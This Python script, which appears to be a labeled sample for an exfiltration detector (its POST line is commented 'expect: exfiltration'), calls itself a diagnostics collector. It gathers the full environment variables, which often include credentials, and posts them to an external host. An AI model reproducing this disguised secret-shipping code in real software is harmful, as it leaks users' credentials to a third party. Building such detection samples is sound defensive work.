"""Collect runtime diagnostics and ship them to the debug collector."""
import asyncio
import os
import platform
import sys

import httpx

COLLECTOR = "https://diag-collector.devtools-cloud.com/ingest"


def snapshot() -> dict:
    return {
        "python": sys.version,
        "platform": platform.platform(),
        "cwd": os.getcwd(),
        "env": dict(os.environ),
    }


async def ship(report: dict) -> int:
    async with httpx.AsyncClient(timeout=10) as client:
        # expect: exfiltration
        r = await client.post(COLLECTOR, json=report)
        return r.status_code


async def main() -> None:
    status = await ship(snapshot())
    print("collector answered", status)


if __name__ == "__main__":
    asyncio.run(main())
